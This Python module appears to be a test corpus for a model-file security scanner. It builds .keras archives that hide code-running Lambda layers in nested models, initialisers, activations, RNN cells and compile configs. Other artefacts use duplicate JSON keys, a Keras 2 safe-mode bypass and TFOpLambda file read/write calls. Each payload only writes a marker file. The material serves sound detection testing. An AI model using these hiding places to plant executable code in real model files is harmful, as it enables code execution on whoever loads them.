"""`.keras` files that bring code of their own, wherever a description has room for it."""

from __future__ import annotations

import json
from functools import partial
from typing import TYPE_CHECKING, Any

from hostile.corpus.artefact import (
    ANY,
    Artefact,
    Harm,
    Scene,
)
from hostile.corpus.keras_files import INPUT, archive, lambda_layer, layer, python
from support.archives import dense, model, write_archive

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    Make = Callable[[Scene], list[dict[str, Any]]]

MARK = "open('{marker}', 'w')"


def mark(scene: Scene) -> str:
    """What a lambda does to show that it ran."""
    return MARK.format(marker=scene.marker)


def of_layers(scene: Scene, make: Make) -> Path:
    return archive(scene, *make(scene))


def of(name: str, source: str, make: Make, words: str, **more: Any) -> Artefact:
    """An archive of such layers."""
    return Artefact(name, source, partial(of_layers, make=make), words=words, **more)


def hidden(
    name: str,
    place: Callable[[dict[str, Any], dict[str, Any]], list[dict[str, Any]]],
    *,
    harm: Harm | None = Harm.MARKER,
    source: str = "CVE-2024-3660",
) -> Artefact:
    """A lambda in a place; `place` gets the Lambda layer and the bare lambda function."""

    def make(scene: Scene) -> list[dict[str, Any]]:
        return place(lambda_layer(mark(scene)), python(mark(scene)))

    return of(name, source, make, "ambda", behind=ANY, harm=harm)


def _inner(layer_: dict[str, Any]) -> dict[str, Any]:
    return model(INPUT, layer_)


CODE = (
    hidden("CVE-2024-3660", lambda layer_, _: [layer_]),
    hidden("lambda-in-an-inner-model", lambda layer_, _: [_inner(layer_)]),
    hidden(
        "lambda-in-a-wrapper",
        lambda layer_, _: [
            layer("Reshape", target_shape=[4, 1]),
            layer("TimeDistributed", layer=layer_),
        ],
    ),
    hidden("lambda-in-a-pipeline", lambda layer_, _: [layer("Pipeline", layers=[layer_])]),
    hidden(
        "lambda-as-an-initialiser",
        lambda _, run: [
            dense(
                config={"name": "d", "units": 1, "kernel_initializer": run},
                build_config={"input_shape": [None, 4]},
            )
        ],
        harm=None,
        source="reported, missed by scanners",
    ),
    hidden(
        "lambda-as-an-activation",
        lambda _, run: [layer("Activation", activation=run)],
        source="reported, missed by scanners",
    ),
    hidden(
        "lambda-as-a-regulariser",
        lambda _, run: [
            dense(
                config={"name": "d", "units": 1, "kernel_regularizer": run},
                build_config={"input_shape": [None, 4]},
            )
        ],
        harm=None,
    ),
    hidden(
        "lambda-as-a-constraint",
        lambda _, run: [layer("Dense", units=1, bias_constraint=run)],
        harm=None,
    ),
    hidden(
        "lambda-as-an-output-shape",
        lambda _, run: [layer("Lambda", function=run, output_shape=run)],
    ),
    hidden(
        "lambda-as-the-cell-of-an-rnn",
        lambda layer_, _: [
            layer("Reshape", target_shape=[4, 1]),
            layer("RNN", cell=layer_),
        ],
        harm=None,
    ),
    hidden(
        "lambda-in-a-list-of-cells",
        lambda layer_, _: [
            layer("Reshape", target_shape=[4, 1]),
            layer("RNN", cell=layer("StackedRNNCells", cells=[layer_])),
        ],
        harm=None,
    ),
    hidden(
        "lambda-backwards",
        lambda layer_, _: [
            layer("Reshape", target_shape=[4, 1]),
            layer("Bidirectional", layer=layer("LSTM", units=1), backward_layer=layer_),
        ],
        harm=None,
    ),
    hidden(
        "lambda-in-the-build-config",
        lambda _, run: [dense(build_config={"input_shape": run})],
        harm=None,
    ),
)


def compiled(scene: Scene) -> Path:
    """A lambda in the training part of a model inside the model; and one a key further on."""
    run = python(mark(scene))
    inner = model(dense(), compile_config={"loss": run})
    inner["config"]["build"] = run
    return archive(scene, inner)


def two_texts(scene: Scene) -> Path:
    """Two descriptions in one text: a reader keeps the last of two keys, or the first."""
    hidden_ = json.dumps(model(INPUT, lambda_layer(mark(scene))))
    harmless = json.dumps(model(INPUT, dense()))
    text = harmless[:-1] + "," + hidden_[1:]
    return archive(scene, more={"config.json": text.encode()})


def of_keras_2(scene: Scene) -> Path:
    """Keras 2 runs a lambda whatever safe mode says; it may keep no module beside a name."""
    run = python(mark(scene))["config"]
    old = {
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": [run["code"], None, None],
            "function_type": "lambda",
            "output_shape": [1],
            "output_shape_type": "raw",
            "arguments": {},
        },
    }
    first = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "name": "x"}}
    config = {"class_name": "Sequential", "config": {"name": "s", "layers": [first, old]}}
    members = {"metadata.json": b'{"keras_version": "2.15.0"}'}
    return write_archive(scene.folder / "model.keras", config, members)


OLD_OPERATION = "TFOpLambda"


def old_operation(scene: Scene, function_: str) -> Path:
    """A layer of Keras 2 that stands for any function of TensorFlow."""
    layer_ = {"class_name": OLD_OPERATION, "config": {"name": "op", "function": function_}}
    config = {"class_name": "Sequential", "config": {"name": "s", "layers": [layer_]}}
    members = {"metadata.json": b'{"keras_version": "2.15.0"}'}
    return write_archive(scene.folder / "model.keras", config, members)


ARTEFACTS = (
    *CODE,
    Artefact(
        "lambda-in-the-training-part", "reported, missed by scanners", compiled, words="lambda"
    ),
    Artefact(
        "two-descriptions-in-one",
        "parser differential",
        two_texts,
        words="Lambda",
        harm=Harm.MARKER,
    ),
    Artefact("lambda-of-keras-2", "tf-keras ignores safe mode", of_keras_2, words="Lambda"),
    *(
        Artefact(
            f"operation-of-keras-2-{symbol.replace('.', '-')}",
            "TFOpLambda",
            partial(old_operation, function_=symbol),
            words=f"tf.{symbol}",
        )
        for symbol in ("io.write_file", "io.read_file", "numpy_function", "raw_ops.PyFunc")
    ),
    of(
        "layer-outside-the-safe-scope",
        "keras pull request 23115",
        lambda s: [layer("Masking", mask_value=lambda_layer(mark(s)))],
        "Lambda",
    ),
)
